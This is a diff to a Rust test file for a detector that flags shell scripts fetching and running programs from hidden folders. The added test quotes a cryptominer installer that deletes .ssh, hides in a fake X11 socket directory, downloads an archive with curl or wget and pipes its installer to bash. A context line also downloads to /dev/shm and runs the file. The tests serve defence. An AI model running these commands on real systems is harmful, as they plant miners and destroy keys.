@@ -62,6 +62,16 @@ fn downloads_started_from_hidden_places_are_found() {
     assert_eq!(whys(piped), [Why::DownloadsProgram]);
     let hidden = "#!/bin/sh\ncd /dev/shm; curl -s https://files.example/b -o .b; chmod +x .b; /dev/shm/.b &\n";
     assert_eq!(whys(hidden), [Why::DownloadsProgram]);
+    // fresh73's miner installer: the addresses given as arguments, the archive unpacked in a
+    // hidden folder named like X11's sockets, its installer piped to a shell.
+    let unpacked = "#!/bin/bash\ncd /tmp; rm -rf .ssh .X13-unix; mkdir .X13-unix; cd .X13-unix\n\
+                    curl -O -f $1 || wget -q --no-check-certificate $1\ntar xvf dota.tar.gz\ncd .rsync\n\
+                    cat /tmp/.X13-unix/.rsync/initall | bash\n";
+    assert_eq!(whys(unpacked), [Why::DownloadsProgram]);
+    // A build script running its own installer from a temporary folder that is not hidden,
+    // and one that downloads nothing.
+    assert_eq!(whys(&unpacked.replace("/tmp/.X13-unix/", "/tmp/build/")), []);
+    assert_eq!(whys(&unpacked.replace("curl -O -f $1 || wget -q --no-check-certificate $1\n", "")), []);
 }
 
 #[test]
